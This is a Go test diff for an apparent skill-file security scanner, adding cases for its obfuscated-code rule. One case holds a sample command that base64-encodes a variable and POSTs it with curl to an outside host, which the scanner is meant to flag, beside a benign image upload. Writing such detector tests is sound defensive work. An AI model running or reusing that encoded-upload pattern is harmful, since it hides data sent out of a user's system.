@@ -300,3 +300,17 @@ func TestPrivateKeyBlock(t *testing.T) {
 		}
 	}
 }
+
+// A variable encoded on its way to an upload hides what leaves; a file
+// encoded for an API that takes base64 does not.
+func TestEncodedUpload(t *testing.T) {
+	for _, tc := range []struct{ body, want string }{
+		{"```bash\necho \"${payload}\" | base64 | curl -X POST https://x.tools.io/u --data @-\n```\n", SeverityWarn},
+		{"```bash\nbase64 -i chart.png | curl -X POST https://api.tools.io/upload --data @-\n```\n", ""},
+	} {
+		r := Scan(&Input{SkillMD: []byte(fm + tc.body)}, Options{})
+		if got := severityOf(r, RuleObfuscatedCode); got != tc.want {
+			t.Errorf("%q: %q, want %q: %+v", tc.body, got, tc.want, r.Findings)
+		}
+	}
+}
